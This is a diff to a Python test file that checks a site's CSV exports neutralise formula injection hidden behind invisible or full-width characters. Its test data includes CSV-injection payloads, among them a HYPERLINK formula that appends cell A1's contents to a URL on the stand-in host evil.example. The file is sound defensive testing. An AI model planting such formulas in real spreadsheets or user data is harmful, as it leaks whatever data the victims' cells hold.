@@ -1,9 +1,11 @@
 """ASVS V5 (output encoding): CSV files the site writes are safe to open in a spreadsheet.
 
 A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
-by Excel, LibreOffice and Google Sheets (CSV injection). Every such cell a manager downloads gets
-a leading single quote, whichever way the text reached the site: a person's own profile, a
-manager setting a team, or a row of an uploaded invitation file.
+by Excel, LibreOffice and Google Sheets (CSV injection), even behind spaces and invisible
+characters (a zero width space, a byte order mark), and some read the full-width ``＝`` as ``=``.
+Every such cell a manager downloads gets a leading single quote, whichever way the text reached
+the site: a person's own profile, a manager setting a team, a row of an uploaded invitation file,
+or a row stored before the forms refused invisible characters.
 
 Proved elsewhere and not repeated here:
 
@@ -23,10 +25,10 @@ from sqlalchemy import select
 
 import course
 from course.accounts.models import User
+from course.core.spreadsheets import FORMULA_STARTS, neutralised
 from course.extensions import db
 from course.organisations.invitations import read_invitation_csv
 from course.organisations.models import Invitation, Membership
-from course.organisations.reports import FORMULA_STARTS, neutralised
 from tests.conftest import post_form, sign_in
 from tests.factories import STRONG_PASSWORD, make_user
 from tests.security.conftest import MANAGER, Site
@@ -142,6 +144,49 @@ def test_email_addresses_that_start_like_formulas_are_neutralised(site: Site) ->
     assert len(emails) == 3
     assert not any(runs_as_formula(email) for email in emails), emails
     assert "'=1+1@formula.example" in emails and "'+44@formula.example" in emails
+
+
+#: Text whose first visible character starts a formula, behind invisible characters or in a
+#: full-width form, by the name of the case.
+HIDDEN_FORMULAS = {
+    "zero width space": '\u200b=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "byte order mark": "\ufeff=1+1",
+    "word joiner": "\u2060+SUM(1+1)",
+    "no-break space": "\u00a0-2+3",
+    "ideographic space": "\u3000@SUM(1)",
+    "plain space": " =1+1",
+    "several invisible characters": "\u200b\ufeff \u2060=1+1",
+    "invisible then tab": "\u200b\t=1+1",
+    "full-width equals": "\uff1d1+1",
+    "full-width plus": "\uff0bSUM(1+1)",
+    "full-width hyphen-minus": "\uff0d2+3",
+    "full-width commercial at": "\uff20SUM(1)",
+    "zero width space then full-width equals": '\u200b\uff1dHYPERLINK("http://evil.example")',
+}
+#: Text with invisible or full-width characters that starts no formula, and is left alone.
+HARMLESS = {
+    "zero width space before a letter": "\u200bSam Jones",
+    "full-width equals after a letter": "Sam\uff1dJones",
+    "only invisible characters": "\u200b\ufeff",
+}
+
+
+@pytest.mark.parametrize("case", sorted(HIDDEN_FORMULAS) + sorted(HARMLESS))
+def test_formulas_behind_invisible_characters_or_in_full_width_are_neutralised(
+    site: Site, case: str
+) -> None:
+    text = HIDDEN_FORMULAS.get(case) or HARMLESS[case]
+    email = f"{case.replace(' ', '-')}@hidden-formula.example"
+    # Stored directly: whatever the forms accept today, a name or team already stored (before a
+    # form refused invisible characters, say) reaches the export as it is.
+    with site.app.app_context():
+        _join_organisation(site, make_user(email=email, name=text), team=text)
+
+    rows = members_csv(site)
+
+    [row] = [row for row in rows[1:] if row[1] == email]
+    expected = "'" + text if case in HIDDEN_FORMULAS else text
+    assert (row[0], row[2]) == (expected, expected)
 
 
 def test_the_header_row_is_safe_too(site: Site) -> None:
